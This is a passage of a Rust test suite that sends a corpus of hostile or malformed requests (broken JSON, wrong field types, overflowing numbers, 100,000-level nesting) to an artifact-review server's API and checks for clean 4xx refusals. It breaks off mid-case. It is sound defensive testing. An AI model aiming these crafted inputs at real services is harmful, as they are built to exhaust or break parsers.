//! The hostile input corpus (issue 6, item 3): requests a buggy agent or an attacker might send,
//! each run against the live server and each expected to get a 4xx answer in the JSON error shape
//! `{"error": ..., "code": ...}` while every table a request could write to stays exactly as it
//! was (compared row by row, not only counted; `audit_events` is left out because refused
//! sign-ins are recorded there on purpose).
//!
//! The corpus is a table of cases (category, name, method, path, auth, headers, body, expected
//! status and code) built from the real endpoints: malformed and truncated JSON, unknown fields,
//! wrong types for every field, huge numbers, deep nesting, NUL bytes in every text field,
//! invalid UTF-8, empty and overlong text at every limit (in 1-, 2- and 4-byte characters),
//! SQL metacharacters where they cannot be valid, every hostile ZIP plus truncated and non-ZIP
//! bytes, bodies over the limit with and without Content-Length, header tricks, keys of every
//! wrong shape, ids and tokens that name nothing, and sign-in attempts. After the corpus the server
//! still answers normally and its log holds no panic and no ERROR line.
//!
//! The few valid hostile-looking inputs (SQL metacharacters, text exactly at a limit in 4-byte
//! characters) are a separate test: they must be stored and read back verbatim.
//!
//! Cases that once revealed a server bug carry `bug(...)`: each group also runs as a test named
//! for the behaviour it guards (two Host headers, an absolute-form target, arrays for objects,
//! non-UTF-8 multipart text). Requests that hyper's HTTP parser refuses itself (bare CR in a
//! header, folded lines, an over-long path...) get its plain 400/414/431 without a JSON body; the
//! corpus accepts any 4xx for those (`parser_level`).
//!
//! `HOSTILE_VERBOSE=1 cargo test --test hostile -- --nocapture` prints every case with the status
//! and code it got.

mod common;

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};
use std::net::Shutdown;
use std::panic::AssertUnwindSafe;
use std::time::Duration;

use artifact_review::keys::checksum;
use common::zips::{
    deflate_zeros, deflated, raw_deflated_zip, rename, set_flags, set_method, zip_named, zip_of,
};
use common::*;
use serde_json::{json, Value};

const MB: usize = 1_048_576;
const PAGE: &str = "<h1>The Monthly revenue chart</h1>";

// ---------------------------------------------------------------------------------------------
// The world the corpus runs against.
// ---------------------------------------------------------------------------------------------

/// Ada (admin) with a session, a user key, an agent key, keys that are revoked, expired or belong
/// to a deleted agent; an artifact with a comment and a reply; a pending reviewer grant; an
/// invite; and a second member, Bob.
struct World {
    server: Server,
    cookie: Auth,
    key: String,
    user_key: Auth,
    agent_key: Auth,
    agent_id: String,
    key_id: String,
    share: String,
    comment: String,
    reply: String,
    grant: String,
    invite: String,
    member: String,
    revoked_key: String,
    expired_key: String,
    deleted_agent_key: String,
    /// `/v/{grant}`: where version 1 is served to Ada without a cookie.
    grant_path: String,
}

fn quote_target(exact: &str) -> Value {
    json!({"source": "index.html", "selector": {"type": "TextQuoteSelector", "exact": exact, "prefix": "The ", "suffix": " chart"}})
}

fn id_of(resp: &Resp) -> String {
    assert!(resp.status == 200 || resp.status == 201, "{}", resp.text());
    resp.json()["id"]
        .as_str()
        .expect("an id in the answer")
        .to_string()
}

fn world() -> World {
    let server = Server::start();
    let cookie_value = server.setup_owner();
    let cookie = Auth::Cookie(cookie_value.clone());
    let (key_id, key) = server.create_key(&cookie_value, json!({"name": "CI"}));
    let user_key = Auth::Key(key.clone());
    let agent_id = server.create_agent(&cookie, "Claude", Some("coding"));
    let (_, agent_key) = server.create_key(
        &cookie_value,
        json!({"name": "claude", "agentId": agent_id}),
    );
    let temp_agent = server.create_agent(&cookie, "Temp", None);
    let (_, deleted_agent_key) = server.create_key(
        &cookie_value,
        json!({"name": "temp", "agentId": temp_agent}),
    );
    let resp = server.delete(&format!("/api/v1/agents/{temp_agent}"), &cookie);
    assert_eq!(resp.status, 200, "{}", resp.text());
    let (revoked_id, revoked_key) = server.create_key(&cookie_value, json!({"name": "revoked"}));
    let resp = server.delete(&format!("/api/v1/keys/{revoked_id}"), &cookie);
    assert_eq!(resp.status, 200, "{}", resp.text());
    let expires_at = now_ms() + 1_000;
    let (_, expired_key) = server.create_key(
        &cookie_value,
        json!({"name": "expiring", "expiresAt": expires_at}),
    );

    let created = server.upload(
        &user_key,
        json!({"name": "Dashboard", "fileName": "index.html", "content": PAGE}),
    );
    let share = created["shareToken"]
        .as_str()
        .expect("a share token")
        .to_string();
    let comment = id_of(&server.post(
        &format!("/api/v1/artifacts/{share}/comments"),
        &user_key,
        &json!({"content": "Check this number", "target": quote_target("Monthly revenue")}),
    ));
    let reply = id_of(&server.post(
        &format!("/api/v1/comments/{comment}/replies"),
        &user_key,
        &json!({"content": "Fixed in the next version"}),
    ));
    let grant = id_of(&server.post(
        &format!("/api/v1/artifacts/{share}/access"),
        &user_key,
        &json!({"email": "carol@example.com", "role": "can-comment"}),
    ));
    let invite = id_of(&server.post("/api/v1/team/invites", &cookie, &json!({})));
    let out = server.cli(
        &[
            "user",
            "create",
            "--email",
            "bob@example.com",
            "--name",
            "Bob",
            "--password-stdin",
        ],
        "a long password\n",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let member = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let grant_path = server.view_grant(&cookie, &share, 1);
    // The short-lived key must be expired before the corpus uses it.
    while now_ms() <= expires_at + 50 {
        std::thread::sleep(Duration::from_millis(50));
    }
    World {
        server,
        cookie,
        key,
        user_key,
        agent_key: Auth::Key(agent_key),
        agent_id,
        key_id,
        share,
        comment,
        reply,
        grant,
        invite,
        member,
        revoked_key,
        expired_key,
        deleted_agent_key,
        grant_path,
    }
}

// ---------------------------------------------------------------------------------------------
// A case of the corpus.
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy)]
enum Expect {
    Status(u16),
    OneOf(&'static [u16]),
    Any4xx,
}

#[derive(Debug, Clone)]
struct Case {
    category: &'static str,
    name: String,
    method: String,
    path: String,
    auth: Auth,
    headers: Vec<(String, String)>,
    body: Option<Vec<u8>>,
    /// When set, these exact bytes are written on a fresh connection instead.
    raw: Option<Vec<u8>>,
    /// Raw only: close our sending side after writing (a body cut short).
    half_close: bool,
    expect: Expect,
    /// Acceptable error codes; empty: any non-empty code.
    codes: Vec<&'static str>,
    /// Refused by the HTTP parser (hyper) before the application sees it: a bare 4xx whose body
    /// may be empty. See `malformed_requests_refused_by_the_http_parser_answer_in_json`.
    parser_level: bool,
    /// Counts as a failed sign-in for the throttle (per account and address): run last, each
    /// after Ada's successful sign-in, which clears her account's count for this address.
    sign_in_failure: bool,
    /// A header the answer must not carry (e.g. one a request tried to inject).
    absent_header: Option<&'static str>,
    /// The answer is a page for a person (the review page, the artifact frame): HTML, not JSON.
    page: bool,
    /// The bug this case once revealed (tag of the test that runs its group on its own).
    bug: Option<&'static str>,
    /// The field the answer must name (`field`), when the case concerns one.
    field: Option<String>,
}

impl Case {
    fn new(
        category: &'static str,
        name: impl Into<String>,
        method: &str,
        path: impl Into<String>,
        auth: &Auth,
    ) -> Case {
        Case {
            category,
            name: name.into(),
            method: method.to_string(),
            path: path.into(),
            auth: auth.clone(),
            headers: Vec::new(),
            body: None,
            raw: None,
            half_close: false,
            expect: Expect::Any4xx,
            codes: Vec::new(),
            parser_level: false,
            sign_in_failure: false,
            absent_header: None,
            page: false,
            bug: None,
            field: None,
        }
    }

    /// A raw case: `bytes` is the whole request.
    fn raw(category: &'static str, name: impl Into<String>, bytes: Vec<u8>) -> Case {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let mut line = text.split("\r\n").next().unwrap_or_default().split(' ');
        let method = line.next().unwrap_or_default().to_string();
        let path = line.next().unwrap_or_default().to_string();
        let mut case = Case::new(category, name, &method, path, &Auth::None);
        case.raw = Some(bytes);
        case
    }

    fn json(mut self, body: &Value) -> Case {
        self.body = Some(body.to_string().into_bytes());
        self
    }

    fn bytes(mut self, body: impl Into<Vec<u8>>) -> Case {
        self.body = Some(body.into());
        self
    }

    fn header(mut self, name: &str, value: impl Into<String>) -> Case {
        self.headers.push((name.to_string(), value.into()));
        self
    }

    fn status(mut self, status: u16, code: &'static str) -> Case {
        self.expect = Expect::Status(status);
        self.codes = vec![code];
        self
    }

    fn status_any_code(mut self, status: u16) -> Case {
        self.expect = Expect::Status(status);
        self
    }

    fn one_of(mut self, statuses: &'static [u16], codes: &[&'static str]) -> Case {
        self.expect = Expect::OneOf(statuses);
        self.codes = codes.to_vec();
        self
    }

    fn field(mut self, field: &str) -> Case {
        self.field = Some(field.to_string());
        self
    }

    fn codes(mut self, codes: &[&'static str]) -> Case {
        self.codes = codes.to_vec();
        self
    }

    fn parser(mut self) -> Case {
        self.parser_level = true;
        self
    }

    fn half_close(mut self) -> Case {
        self.half_close = true;
        self
    }

    fn sign_in_failure(mut self) -> Case {
        self.sign_in_failure = true;
        self
    }

    fn page(mut self) -> Case {
        self.page = true;
        self
    }

    fn absent(mut self, header: &'static str) -> Case {
        self.absent_header = Some(header);
        self
    }

    fn bug(mut self, tag: &'static str) -> Case {
        self.bug = Some(tag);
        self
    }
}

/// What came back.
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

fn send(server: &Server, case: &Case) -> Result<Answer, String> {
    if let Some(bytes) = &case.raw {
        let mut stream = server.connect();
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .map_err(|e| e.to_string())?;
        let _ = stream.write_all(bytes);
        if case.half_close {
            let _ = stream.shutdown(Shutdown::Write);
        }
        let mut out = Vec::new();
        let _ = stream.read_to_end(&mut out);
        return parse_responses(&out)
            .into_iter()
            .next()
            .map(|r| Answer {
                status: r.status,
                headers: r.headers,
                body: r.body,
            })
            .ok_or_else(|| {
                format!(
                    "no complete HTTP answer; got {:?}",
                    String::from_utf8_lossy(&out[..out.len().min(300)])
                )
            });
    }
    // One connection per case: no case can leave a connection behind for the next one, and a
    // pooled connection the server closed while idle cannot fail a case.
    let mut headers: Vec<(&str, &str)> = vec![("Connection", "close")];
    headers.extend(case.headers.iter().map(|(n, v)| (n.as_str(), v.as_str())));
    let resp = std::panic::catch_unwind(AssertUnwindSafe(|| {
        server.request(
            &case.method,
            &case.path,
            &case.auth,
            case.body.as_deref(),
            &headers,
        )
    }))
    .map_err(|_| "the request failed at the transport level (see the panic above)".to_string())?;
    Ok(Answer {
        status: resp.status,
        headers: resp
            .headers
            .iter()
            .map(|(n, v)| {
                (
                    n.as_str().to_string(),
                    String::from_utf8_lossy(v.as_bytes()).into_owned(),
                )
            })
            .collect(),
        body: resp.body,
    })
}

/// Sends one case and returns what is wrong with the answer, if anything.
fn check(server: &Server, db: &rusqlite::Connection, case: &Case) -> Result<(), String> {
    let before = db_snapshot(db);
    let answer = send(server, case)?;
    let after = db_snapshot(db);
    let mut problems = Vec::new();
    if let Some(diff) = snapshot_diff(&before, &after) {
        problems.push(format!("the database changed:\n{diff}"));
    }
    let status = answer.status;
    if !(400..500).contains(&status) {
        problems.push(format!("status {status} is not a 4xx"));
    }
    let allowed: Vec<u16> = match case.expect {
        Expect::Status(s) => vec![s],
        Expect::OneOf(list) => list.to_vec(),
        Expect::Any4xx => (400..500).collect(),
    };
    let codes = &case.codes;
    if !allowed.contains(&status) {
        problems.push(format!("status {status}, expected one of {allowed:?}"));
    }
    let body_text = String::from_utf8_lossy(&answer.body).into_owned();
    if std::env::var_os("HOSTILE_VERBOSE").is_some() {
        let code = serde_json::from_slice::<Value>(&answer.body)
            .ok()
            .and_then(|v| v["code"].as_str().map(str::to_string))
            .unwrap_or_else(|| format!("(no JSON code; {} body bytes)", answer.body.len()));
        eprintln!("  {status} {code}");
    }
    if case.page {
        let html = answer
            .headers
            .iter()
            .any(|(n, v)| n.eq_ignore_ascii_case("content-type") && v.starts_with("text/html"));
        if !html || answer.body.is_empty() {
            problems.push(format!(
                "a person should get an HTML page: {:?}",
                &body_text[..body_text.len().min(300)]
            ));
        }
    }
    let needs_json = !(case.page || case.parser_level && answer.body.is_empty());
    if needs_json {
        match serde_json::from_slice::<Value>(&answer.body) {
            Ok(v) => {
                let error = v["error"].as_str().unwrap_or_default();
                let code = v["code"].as_str().unwrap_or_default();
                if error.is_empty() || code.is_empty() {
                    problems.push(format!(
                        "the body lacks a non-empty error and code: {body_text}"
                    ));
                } else if !codes.is_empty() && !codes.contains(&code) {
                    problems.push(format!("code {code:?}, expected one of {codes:?}"));
                }
                if let Some(field) = &case.field {
                    if v["field"].as_str() != Some(field) {
                        problems.push(format!("field {:?}, expected {field:?}", v["field"]));
                    }
                }
            }
            Err(_) => problems.push(format!(
                "the body is not JSON: {:?}",
                &body_text[..body_text.len().min(300)]
            )),
        }
    }
    if let Some(name) = case.absent_header {
        if answer
            .headers
            .iter()
            .any(|(n, _)| n.eq_ignore_ascii_case(name))
        {
            problems.push(format!("the answer carries a {name} header"));
        }
    }
    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "status {status}, body {:?}\n    {}",
            &body_text[..body_text.len().min(300)],
            problems.join("\n    ")
        ))
    }
}

/// Runs the cases (sign-in failures last) and returns one line per failed case.
fn run(server: &Server, cases: &[Case]) -> Vec<String> {
    let db = server.open_db();
    let mut ordered: Vec<&Case> = cases.iter().filter(|c| !c.sign_in_failure).collect();
    ordered.extend(cases.iter().filter(|c| c.sign_in_failure));
    let mut failures = Vec::new();
    let verbose = std::env::var_os("HOSTILE_VERBOSE").is_some();
    for case in ordered {
        if case.sign_in_failure {
            // A successful sign-in clears Ada's failures from this address, so every attempt on
            // her account is judged on its own rather than meeting the throttle's 429 (the
            // session it makes is outside the case's before/after comparison).
            server.sign_in("ada@example.com", OWNER_PASSWORD);
        }
        let outcome = check(server, &db, case);
        if verbose {
            eprintln!(
                "[{}] {} -> {}",
                case.category,
                case.name,
                if outcome.is_ok() { "ok" } else { "FAILED" }
            );
        }
        if let Err(why) = outcome {
            failures.push(format!(
                "[{}] {} ({} {}): {why}",
                case.category,
                case.name,
                case.method,
                &case.path[..case.path.len().min(120)]
            ));
        }
    }
    failures
}

/// After the corpus: a key still works, a comment can still be posted and read, and the log shows
/// no panic and no ERROR.
fn still_serves(w: &World) {
    let server = &w.server;
    let me = server.get("/api/v1/me", &w.user_key);
    assert_eq!(me.status, 200, "{}", me.text());
    assert_eq!(me.json()["user"]["email"], "ada@example.com");
    let posted = server.post(
        &format!("/api/v1/artifacts/{}/comments", w.share),
        &w.agent_key,
        &json!({"content": "still here after the corpus", "target": quote_target("Monthly revenue")}),
    );
    assert_eq!(posted.status, 201, "{}", posted.text());
    let listed = server.get(
        &format!("/api/v1/artifacts/{}/comments", w.share),
        &w.user_key,
    );
    assert_eq!(listed.status, 200);
    assert!(listed.text().contains("still here after the corpus"));
    assert_eq!(server.get("/api/v1/health", &Auth::None).status, 200);
    let alarming = alarming_log_lines(&server.log());
    assert!(
        alarming.is_empty(),
        "the server logged a panic or an error:\n{}",
        alarming.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Endpoints with JSON bodies, and the shape of each body.
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy)]
enum Kind {
    /// A required string.
    Str,
    /// An optional string (null means absent).
    OptStr,
    Int,
    Bool,
    OptBool,
    /// An id: a string or a whole number.
    Id,
    /// A JSON object (a comment target or selector).
    Obj,
    /// A comment's `version`: "v1" or 1.
    Version,
    StrList,
}

fn wrong_values(kind: Kind) -> Vec<Value> {
    match kind {
        Kind::Str => vec![
            json!(42),
            json!(true),
            json!(["x"]),
            json!({"x": "y"}),
            Value::Null,
        ],
        Kind::OptStr => vec![json!(42), json!(false), json!(["x"]), json!({"x": "y"})],
        Kind::Int => vec![json!("7"), json!(7.5), json!(true), json!([7]), json!({})],
        Kind::Bool => vec![json!("true"), json!(1), Value::Null, json!([])],
        Kind::OptBool => vec![json!("true"), json!(1), json!([])],
        Kind::Id => vec![json!(true), json!(7.5), json!(["1"]), json!({"id": "1"})],
        Kind::Obj => vec![json!("x"), json!(1), json!([]), Value::Null],
        Kind::Version => vec![json!(true), json!([]), json!({}), json!(1.5)],
        Kind::StrList => vec![json!("editor"), json!([1]), json!({}), json!([null])],
    }
}

struct Endpoint {
    label: &'static str,
    method: &'static str,
    path: String,
    auth: Auth,
    base: Value,
    fields: Vec<(&'static str, Kind)>,
}

fn endpoint(
    label: &'static str,
    method: &'static str,
    path: impl Into<String>,
    auth: &Auth,
    base: Value,
    fields: &[(&'static str, Kind)],
) -> Endpoint {
    Endpoint {
        label,
        method,
        path: path.into(),
        auth: auth.clone(),
        base,
        fields: fields.to_vec(),
    }
}

impl Endpoint {
    fn case(&self, category: &'static str, what: &str) -> Case {
        Case::new(
            category,
            format!("{}: {what}", self.label),
            self.method,
            self.path.clone(),
            &self.auth,
        )
    }

    /// The first string field, where invalid text goes.
    fn text_field(&self) -> &'static str {
        self.fields
            .iter()
            .find(|(_, k)| matches!(k, Kind::Str | Kind::OptStr))
            .or(self.fields.first())
            .map(|(f, _)| *f)
            .expect("every endpoint has a field")
    }
}

fn endpoints(w: &World) -> Vec<Endpoint> {
    use Kind::*;
    let share = &w.share;
    vec![
        endpoint(
            "create key",
            "POST",
            "/api/v1/keys",
            &w.cookie,
            json!({"name": "k", "agentId": null, "expiresInDays": 7, "scopes": ["editor"]}),
            &[
                ("name", Str),
                ("agentId", Id),
                ("expiresInDays", Int),
                ("scopes", StrList),
            ],
        ),
        endpoint(
            "create agent",
            "POST",
            "/api/v1/agents",
            &w.user_key,
            json!({"name": "a", "role": "qa"}),
            &[("name", Str), ("role", OptStr)],
        ),
        endpoint(
            "update agent",
            "PATCH",
            format!("/api/v1/agents/{}", w.agent_id),
            &w.user_key,
            json!({"name": "a2", "role": "qa"}),
            &[("name", OptStr), ("role", OptStr)],
        ),
        endpoint(
            "setup",
            "POST",
            "/api/v1/setup",
            &Auth::None,
            json!({"token": "t", "email": "eve@example.com", "name": "Eve", "password": "a long password"}),
            &[
                ("token", Str),
                ("email", Str),
                ("name", Str),
                ("password", Str),
            ],
        ),
        endpoint(
            "sign in",
            "POST",
            "/api/v1/session",
            &Auth::None,
            json!({"email": "ada@example.com", "password": "wrong password"}),
            &[("email", Str), ("password", Str)],
        ),
        endpoint(
            "create artifact",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
            json!({"name": "n", "description": "d", "fileType": "html", "fileName": "page.html", "content": "<p>x</p>", "versionName": "first"}),
            &[
                ("name", OptStr),
                ("description", OptStr),
                ("fileType", OptStr),
                ("fileName", OptStr),
                ("content", Str),
                ("versionName", OptStr),
                ("entryPoint", OptStr),
            ],
        ),
        endpoint(
            "update artifact",
            "PATCH",
            format!("/api/v1/artifacts/{share}"),
            &w.user_key,
            json!({"name": "n", "description": "d"}),
            &[("name", OptStr), ("description", OptStr)],
        ),
        endpoint(
            "new version",
            "POST",
            format!("/api/v1/artifacts/{share}/versions"),
            &w.user_key,
            json!({"fileName": "index.html", "content": "<p>x</p>"}),
            &[
                ("name", OptStr),
                ("versionName", OptStr),
                ("fileType", OptStr),
                ("fileName", OptStr),
                ("content", Str),
            ],
        ),
        endpoint(
            "rename version",
            "PATCH",
            format!("/api/v1/artifacts/{share}/versions/1"),
            &w.user_key,
            json!({"name": "first"}),
            &[("name", OptStr)],
        ),
        endpoint(
            "create comment",
            "POST",
            format!("/api/v1/artifacts/{share}/comments"),
            &w.user_key,
            json!({"content": "c", "target": quote_target("Monthly revenue"), "version": "v1"}),
            &[
                ("content", Str),
                ("target", Obj),
                ("target.source", Str),
                ("target.selector", Obj),
                ("target.selector.type", Str),
                ("target.selector.exact", Str),
                ("target.selector.prefix", OptStr),
                ("target.selector.suffix", OptStr),
                ("version", Version),
            ],
        ),
        endpoint(
            "create comment (CSS selector)",
            "POST",
            format!("/api/v1/artifacts/{share}/comments"),
            &w.user_key,
            json!({"content": "c", "target": {"source": "index.html", "selector": {"type": "CssSelector", "value": "h1"}}}),
            &[("target.selector.value", Str)],
        ),
        endpoint(
            "create comment (position selector)",
            "POST",
            format!("/api/v1/artifacts/{share}/comments"),
            &w.user_key,
            json!({"content": "c", "target": {"source": "index.html", "selector": {"type": "TextPositionSelector", "start": 1, "end": 5}}}),
            &[("target.selector.start", Int), ("target.selector.end", Int)],
        ),
        endpoint(
            "update comment",
            "PATCH",
            format!("/api/v1/comments/{}", w.comment),
            &w.user_key,
            json!({"content": "c2", "resolved": true}),
            &[("content", OptStr), ("resolved", OptBool)],
        ),
        endpoint(
            "create reply",
            "POST",
            format!("/api/v1/comments/{}/replies", w.comment),
            &w.user_key,
            json!({"content": "r"}),
            &[("content", Str)],
        ),
        endpoint(
            "update reply",
            "PATCH",
            format!("/api/v1/replies/{}", w.reply),
            &w.user_key,
            json!({"content": "r2"}),
            &[("content", Str)],
        ),
        endpoint(
            "grant access",
            "POST",
            format!("/api/v1/artifacts/{share}/access"),
            &w.user_key,
            json!({"email": "dave@example.com", "role": "can-comment"}),
            &[("email", Str), ("role", OptStr)],
        ),
        endpoint(
            "update account",
            "PATCH",
            "/api/v1/account",
            &w.cookie,
            json!({"name": "Ada"}),
            &[("name", Str)],
        ),
        endpoint(
            "change password",
            "PUT",
            "/api/v1/account/password",
            &w.cookie,
            json!({"currentPassword": OWNER_PASSWORD, "newPassword": "another long password"}),
            &[("currentPassword", Str), ("newPassword", Str)],
        ),
        endpoint(
            "disable member",
            "PATCH",
            format!("/api/v1/team/members/{}", w.member),
            &w.cookie,
            json!({"disabled": false}),
            &[("disabled", Bool)],
        ),
        endpoint(
            "create invite",
            "POST",
            "/api/v1/team/invites",
            &w.cookie,
            json!({"role": "member"}),
            &[("role", OptStr)],
        ),
        endpoint(
            "check invite",
            "POST",
            "/api/v1/invites/check",
            &Auth::None,
            json!({"token": "not-an-invite"}),
            &[("token", Str)],
        ),
        endpoint(
            "accept invite",
            "POST",
            "/api/v1/invites/accept",
            &Auth::None,
            json!({"token": "not-an-invite", "email": "new@example.com", "name": "New", "password": "a long password"}),
            &[
                ("token", Str),
                ("email", OptStr),
                ("name", Str),
                ("password", Str),
            ],
        ),
        endpoint(
            "change a member's role",
            "PATCH",
            format!("/api/v1/team/members/{}", w.member),
            &w.cookie,
            json!({"role": "member"}),
            &[("role", Str)],
        ),
        endpoint(
            "use a password-reset link",
            "POST",
            "/api/v1/password-resets/accept",
            &Auth::None,
            json!({"token": "not-a-reset-link", "password": "a long password"}),
            &[("token", Str), ("password", Str)],
        ),
    ]
}

/// `base` with the field at the dotted `path` set to `value`.
fn with(base: &Value, path: &str, value: Value) -> Value {
    let mut out = base.clone();
    let parts: Vec<&str> = path.split('.').collect();
    let (last, parents) = parts.split_last().expect("a non-empty path");
    let mut node = &mut out;
    for p in parents {
        node = &mut node[*p];
    }
    node[*last] = value;
    out
}

/// `base` serialised with the field at `path` replaced by `raw` bytes, verbatim.
fn with_raw(base: &Value, path: &str, raw: &[u8]) -> Vec<u8> {
    let text = with(base, path, json!("@@RAW@@")).to_string();
    let (before, after) = text
        .split_once("\"@@RAW@@\"")
        .expect("the placeholder is in the text");
    let mut out = before.as_bytes().to_vec();
    out.extend_from_slice(raw);
    out.extend_from_slice(after.as_bytes());
    out
}

// ---------------------------------------------------------------------------------------------
// The corpus, by category.
// ---------------------------------------------------------------------------------------------

/// Endpoints whose body fields are all optional: an empty array reads as "no fields".
const ALL_OPTIONAL: &[&str] = &["update agent", "update artifact", "create invite"];

fn malformed_json(eps: &[Endpoint]) -> Vec<Case> {
    let mut out = Vec::new();
    for ep in eps {
        let text = ep.base.to_string();
        let truncated = text[..text.len() / 2].to_string();
        let trailing_comma = format!("{},}}", &text[..text.len() - 1]);
        let mut bodies: Vec<(&str, Vec<u8>, &'static str)> = vec![
            ("truncated JSON", truncated.into_bytes(), "invalid_json"),
            ("an unclosed brace", b"{".to_vec(), "invalid_json"),
            (
                "trailing garbage",
                format!("{text} x").into_bytes(),
                "invalid_json",
            ),
            (
                "a second document",
                format!("{text}{text}").into_bytes(),
                "invalid_json",
            ),
            (
                "a trailing comma",
                trailing_comma.into_bytes(),
                "invalid_json",
            ),
            (
                "single quotes",
                text.replace('"', "'").into_bytes(),
                "invalid_json",
            ),
            ("not JSON at all", b"name=x&role=y".to_vec(), "invalid_json"),
            ("JSON null", b"null".to_vec(), "invalid_request"),
        ];
        for (what, body, code) in bodies.drain(..) {
            out.push(ep.case("malformed", what).bytes(body).status(400, code));
        }
        // A JSON array where an object belongs: serde reads a struct from a sequence, field by
        // field in declaration order, so both forms are taken as bodies (see the bug test).
        let empty_array = ep
            .case("malformed", "an empty JSON array")
            .bytes(b"[]".to_vec());
        out.push(if ALL_OPTIONAL.contains(&ep.label) {
            empty_array
                .status(400, "invalid_request")
                .bug("positional_arrays")
        } else {
            empty_array.status(400, "invalid_request")
        });
        out.push(
            ep.case("malformed", "the fields as a JSON array")
                .bytes(positional(&ep.base))
                .status(400, "invalid_request")
                .bug("positional_arrays"),
        );
        // An empty body reads as "no body"; creating an invite takes that as "all defaults".
        if ep.label != "create invite" {
            out.push(
                ep.case("malformed", "an empty body")
                    .bytes(Vec::new())
                    .status(400, "missing_body"),
            );
        }
        out.push(
            ep.case("malformed", "an unknown field")
                .json(&with(&ep.base, "extraField", json!(1)))
                .status(400, "invalid_request")
                .field("extraField"),
        );
        // A compressed body is refused naming its coding, not read as broken JSON.
        out.push(
            ep.case("malformed", "a body sent with Content-Encoding: gzip")
                .bytes(gzip_magic(&text))
                .header("Content-Encoding", "gzip")
                .status(415, "unsupported_content_encoding"),
        );
        // A negative position names its member, though serde reads selectors as a tagged enum.
        for member in ["start", "end"] {
            let field = format!("target.selector.{member}");
            if ep.fields.iter().any(|(name, _)| *name == field) {
                out.push(
                    ep.case("malformed", &format!("a negative {field}"))
                        .json(&with(&ep.base, &field, json!(-1)))
                        .status(400, "invalid_target")
                        .field(&field),
                );
            }
        }
    }
    out
}

/// Bytes that start as gzip does (its magic number), then the JSON: what a client compressing its
/// body would send, as far as a server that does not decode it can tell.
fn gzip_magic(json: &str) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 0x08, 0x00];
    out.extend_from_slice(json.as_bytes());
    out
}

/// A comment target given as an array: stored and returned as an array today, though a target is
/// an object (`{source, selector}`) in the API's description.
fn positional_target(eps: &[Endpoint]) -> Case {
    let comment = eps
        .iter()
        .find(|e| e.label == "create comment")
        .expect("comments");
    comment
        .case("malformed", "target as a JSON array [source, selector]")
        .json(&with(
            &comment.base,
            "target",
            json!(["index.html", {"type": "CssSelector", "value": "h1"}]),
        ))
        .status(400, "invalid_target")
        .bug("positional_arrays")
}

/// The body's values in order, as a JSON array (serde's positional form of a struct).
fn positional(base: &Value) -> String {
    let values: Vec<Value> = base
        .as_object()
        .map(|o| o.values().cloned().collect())
        .unwrap_or_default();
    Value::Array(values).to_string()
}

fn wrong_types(eps: &[Endpoint]) -> Vec<Case> {
    let mut out = Vec::new();
    for ep in eps {
        for (field, kind) in &ep.fields {
            for value in wrong_values(*kind) {
                out.push(
                    ep.case("wrong type", &format!("{field} = {value}"))
                        .json(&with(&ep.base, field, value))
                        .status(400, "invalid_request")
                        .codes(&["invalid_request", "invalid_target", "invalid_version"]),
                );
            }
        }
    }
    out
}

fn huge_numbers(w: &World, eps: &[Endpoint]) -> Vec<Case> {
    let find = |label: &str| {
        eps.iter()
            .find(|e| e.label == label)
            .expect("a known endpoint")
    };
    let huge: &[&str] = &[
        "1e400",
        "-1e400",
        "18446744073709551616",
        "-9223372036854775809",
        "9223372036854775807",
        "-9223372036854775808",
        "1e18",
        "0",
        "-1",
        "1.0e2",
    ];
    let mut out = Vec::new();
    let key = find("create key");
    let expiring = json!({"name": "k"});
    for field in ["expiresInDays", "expiresAt"] {
        for n in huge {
            out.push(
                Case::new(
                    "huge number",
                    format!("create key: {field} = {n}"),
                    "POST",
                    "/api/v1/keys",
                    &w.cookie,
                )
                .bytes(with_raw(&expiring, field, n.as_bytes()))
                .status_any_code(400),
            );
        }
    }
    for n in [
        "18446744073709551616",
        "-9223372036854775809",
        "1e400",
        "0",
        "-1",
        "9223372036854775807",
    ] {
        out.push(
            key.case("huge number", &format!("agentId = {n}"))
                .bytes(with_raw(&json!({"name": "k"}), "agentId", n.as_bytes()))
                .status_any_code(400),
        );
    }
    let comment = find("create comment");
    for n in [
        "1e400",
        "18446744073709551616",
        "-9223372036854775809",
        "0",
        "2",
        "9223372036854775807",
    ] {
        out.push(
            comment
                .case("huge number", &format!("version = {n}"))
                .bytes(with_raw(&comment.base, "version", n.as_bytes()))
                .status_any_code(400),
        );
    }
    let position = find("create comment (position selector)");
    for field in ["target.selector.start", "target.selector.end"] {
        for n in ["18446744073709551616", "-1", "1e400", "1.5"] {
            out.push(
                position
                    .case("huge number", &format!("{field} = {n}"))
                    .bytes(with_raw(&position.base, field, n.as_bytes()))
                    .status(400, "invalid_target"),
            );
        }
    }
    out.push(
        position
            .case("huge number", "start after end")
            .json(&with(
                &position.base,
                "target.selector.start",
                json!(18446744073709551615u64),
            ))
            .status(400, "invalid_target"),
    );
    let member = find("disable member");
    for n in ["1e400", "1", "0"] {
        out.push(
            member
                .case("huge number", &format!("disabled = {n}"))
                .bytes(with_raw(&member.base, "disabled", n.as_bytes()))
                .status_any_code(400),
        );
    }
    for query in [
        "limit=18446744073709551616",
        "limit=1e400",
        "limit=-1",
        "limit=0",
        "limit=9223372036854775807",
        "cursor=18446744073709551616",
        "cursor=-9223372036854775809",
    ] {
        for path in ["/api/v1/artifacts", "/api/v1/activity"] {
            let auth = if path.ends_with("activity") {
                &w.cookie
            } else {
                &w.user_key
            };
            out.push(
                Case::new(
                    "huge number",
                    format!("{path}?{query}"),
                    "GET",
                    format!("{path}?{query}"),
                    auth,
                )
                .status_any_code(400),
            );
        }
    }
    out
}

fn deep_nesting(eps: &[Endpoint]) -> Vec<Case> {
    let open = "[".repeat(100_000);
    let closed = format!("{open}{}", "]".repeat(100_000));
    let objects = "{\"a\":".repeat(50_000);
    let mut out = Vec::new();
    for ep in eps {
        out.push(
            ep.case("deep nesting", "100,000 [")
